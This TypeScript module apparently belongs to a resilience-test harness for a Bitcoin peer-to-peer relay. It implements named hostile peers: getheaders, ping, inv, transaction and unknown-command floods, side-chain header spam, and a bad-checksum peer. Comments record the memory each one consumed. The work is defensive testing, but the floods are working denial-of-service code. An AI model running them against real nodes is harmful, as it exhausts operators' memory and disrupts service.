import { randomBytes } from 'node:crypto';
import { type TestChain, buildBranch, headersPayload } from './chain';
import { compactSize, frame } from './wire';
import type { Session } from './session';

export interface AttackOptions {
  /** How many messages the flood sends (its documented size unless overridden). */
  readonly count: number;
  /** Hard stop for the flood, so a test run stays bounded whatever the relay does. */
  readonly deadline: number;
  readonly afterMs: number;
  /** The chain the peer served the relay. */
  readonly chain: TestChain;
}

export type Attack = (s: Session, o: AttackOptions) => Promise<number>;

/** Sends `count` copies of `message` in batches, stopping at the deadline or when the relay hangs up. */
async function flood(s: Session, o: AttackOptions, message: Buffer): Promise<number> {
  const perBatch = Math.max(1, Math.floor((256 * 1024) / message.length));
  const batch = Buffer.concat(Array.from({ length: perBatch }, () => message));
  let sent = 0;
  while (sent < o.count && !s.closed && Date.now() < o.deadline) {
    const n = Math.min(perBatch, o.count - sent);
    await s.write(n === perBatch ? batch : batch.subarray(0, n * message.length));
    sent += n;
  }
  return sent;
}

function getheadersFromGenesis(): Buffer {
  const body = Buffer.alloc(4);
  body.writeInt32LE(70016, 0);
  const genesis = Buffer.from('06226e46111a0b59caaf126043eb5bbf28c34f3a5e332a1fc7b2b73cf188910f', 'hex');
  return Buffer.concat([body, compactSize(1), genesis, Buffer.alloc(32)]);
}

/** Named attacks, one per tool instance. Each resolves with the number of messages it sent. */
export const ATTACKS: Readonly<Record<string, { defaultCount: number; run: Attack }>> = {
  /** Asks for 2,000 headers again and again and never reads the answers (issue 12: +775 MB). */
  'getheaders-unread': {
    defaultCount: 4000,
    run: (s, o) => {
      s.stopReading();
      return flood(s, o, frame('getheaders', getheadersFromGenesis()));
    },
  },
  /** Pings without reading the pongs (issue 12: +354 MB). */
  'ping-flood': {
    defaultCount: 500_000,
    run: (s, o) => {
      s.stopReading();
      return flood(s, o, frame('ping', randomBytes(8)));
    },
  },
  /** 50,000-entry block invs of made-up hashes (issue 12: +233 MB, API p99 236 ms). */
  'inv-flood': {
    defaultCount: 40,
    run: async (s, o) => {
      let sent = 0;
      for (; sent < o.count && !s.closed && Date.now() < o.deadline; sent++) {
        const entries = randomBytes(50_000 * 36);
        for (let i = 0; i < 50_000; i++) entries.writeUInt32LE(2, i * 36);
        await s.write(frame('inv', Buffer.concat([compactSize(50_000), entries])));
      }
      return sent;
    },
  },
  /** Commands no Bitcoin implementation defines (issue 12: ignored silently). */
  'unknown-flood': {
    defaultCount: 200_000,
    run: (s, o) => flood(s, o, frame('xyzzy', Buffer.alloc(4))),
  },
  /** 1 MB transactions the relay never asked for (version relay=false): 200 MB to read past. */
  'tx-flood': {
    defaultCount: 200,
    run: (s, o) => flood(s, o, frame('tx', randomBytes(1_000_000))),
  },
  /**
   * Valid-work side branches of 8 headers, each forking 10 below the served tip, so none overtakes
   * it: `count` headers in all (issue 12: 500,000 took +692 MB and were kept after the peer left).
   */
  'side-chains': {
    defaultCount: 500_000,
    run: async (s, o) => {
      const tip = o.chain.headers.length - 1;
      if (tip < 10) throw new Error('side-chains needs --chain of at least 10');
      let sent = 0;
      for (let salt = 0; sent < o.count && !s.closed && Date.now() < o.deadline; salt++) {
        const branch = buildBranch(o.chain, tip - 10, Math.min(8, o.count - sent), salt);
        await s.write(frame('headers', headersPayload(branch)));
        sent += branch.length;
      }
      return sent;
    },
  },
  /** A protocol violation right after every handshake: the repeat offender. */
  'bad-checksum': {
    defaultCount: 1,
    run: async (s) => {
      await s.write(frame('ping', randomBytes(8), true));
      return 1;
    },
  },
  /** Behaves, then hangs up after --after ms: a flapping peer, not a hostile one. */
  hangup: {
    defaultCount: 0,
    run: async (s, o) => {
      await new Promise((resolve) => setTimeout(resolve, o.afterMs));
      s.socket.destroy();
      return 0;
    },
  },
  /** Serves its chain and stays: the control. */
  honest: { defaultCount: 0, run: () => Promise.resolve(0) },
};
